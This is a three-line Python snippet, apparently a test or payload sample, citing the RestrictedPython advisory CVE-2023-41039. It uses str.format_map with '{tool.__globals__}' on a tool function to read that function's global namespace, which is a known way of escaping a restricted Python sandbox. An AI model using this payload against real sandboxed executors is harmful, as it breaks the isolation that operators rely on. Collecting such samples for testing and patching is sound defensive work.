# Source: RestrictedPython CVE-2023-41039 / https://github.com/advisories/GHSA-xjw2-6jm9-rf67; https://github.com/zopefoundation/RestrictedPython/pull/258 (format_map, like format)
w = get_weather(city="Paris")
print("{tool.__globals__}".format_map({"tool": get_weather, "w": w}))
